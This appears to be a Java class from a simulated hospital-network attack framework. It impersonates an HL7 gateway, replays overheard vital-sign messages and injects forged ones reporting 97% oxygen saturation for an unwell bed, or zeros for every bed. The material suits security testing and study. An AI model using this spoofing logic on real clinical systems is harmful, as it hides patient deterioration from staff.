package org.cylcomed.ward.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.regex.Pattern;
import org.cylcomed.ward.hl7.Line;
import org.cylcomed.ward.network.Guard;
import org.cylcomed.ward.network.GuardedSockets;
import org.cylcomed.ward.scenario.Act;
import org.cylcomed.ward.scenario.Deed;
import org.cylcomed.ward.scenario.Script;

/** Speaks as the gateway from another machine: old messages again, then good values for a bed that is not well. */
public final class Hl7Impostor {
    private static final Pattern OXYGEN = Pattern.compile("(\\^MDC_PULS_OXIM_SAT_O2\\^MDC\\|[^|]*\\|)([0-9.]+)");
    private static final Pattern CONTROL_ID = Pattern.compile("(ORU\\^R01\\^ORU_R01\\|)([^|]*)");
    private static final Pattern NUMBER = Pattern.compile("(\\|NM\\|[^|]*\\^MDC\\|[^|]*\\|)([0-9.]+)");
    /** What the record is made to say. */
    public static final int GOOD_OXYGEN = 97;

    private static final long WAIT_MILLIS = 2_000;

    private final Script script;
    private final Act act;

    public Hl7Impostor(Script script, Act act) {
        this.script = script;
        this.act = act;
    }

    /** What it would send, given what was overheard, oldest first; empty while that is not enough. */
    List<String> messages(List<String> heard) {
        List<String> values =
                heard.stream().filter(text -> CONTROL_ID.matcher(text).find()).toList();
        List<String> ofBed = values.stream()
                .filter(text -> text.contains("^BED" + act.bed() + "\r"))
                .toList();
        if (values.size() < 3 || ofBed.isEmpty()) {
            return List.of();
        }
        // Not to the end: whoever repeats the very last messages looks like a restart.
        List<String> sent = new ArrayList<>(values.subList(0, Math.min(act.count(), values.size() - 2)));
        for (int number = 1; number <= act.values(); number++) {
            String good = OXYGEN.matcher(ofBed.getLast()).replaceAll("$1" + GOOD_OXYGEN);
            sent.add(CONTROL_ID.matcher(good).replaceAll("$1$2X" + number));
        }
        return sent;
    }

    /** Nothing but zeros, for every bed that was overheard; empty while that is not enough. */
    List<String> zeros(List<String> heard) {
        List<String> sent = new ArrayList<>();
        List<String> values =
                heard.stream().filter(text -> CONTROL_ID.matcher(text).find()).toList();
        if (values.size() < 3) {
            return List.of();
        }
        for (int number = 0; number < act.values(); number++) {
            String truth = values.get(values.size() - 1 - number % values.size());
            String zero = NUMBER.matcher(truth).replaceAll("$10");
            sent.add(CONTROL_ID.matcher(zero).replaceAll("$1$2Z" + number));
        }
        return sent;
    }

    /** What the gateway said last of the attacked bed's oxygen; empty if it was not overheard. */
    public String trueOxygen(List<String> heard) {
        return heard.reversed().stream()
                .filter(text -> text.contains("^BED" + act.bed() + "\r"))
                .map(OXYGEN::matcher)
                .filter(java.util.regex.Matcher::find)
                .map(found -> found.group(2))
                .findFirst()
                .orElse("");
    }

    /** Sends it all, on the thread of the attacking machine. */
    public int run(List<String> heard, ExecutorService executor) throws InterruptedException {
        GuardedSockets sockets =
                new GuardedSockets(new Guard(script.network()), act.actor().address(), null);
        int sent = 0;
        try (Line line =
                new Line(executor, sockets, act.to().address(), act.to().port(), false, WAIT_MILLIS)) {
            for (String message : act.deed() == Deed.HL7_ZEROS ? zeros(heard) : messages(heard)) {
                line.send(message);
                sent++;
                Thread.sleep((long) act.pauseMillis());
            }
        }
        return sent;
    }
}
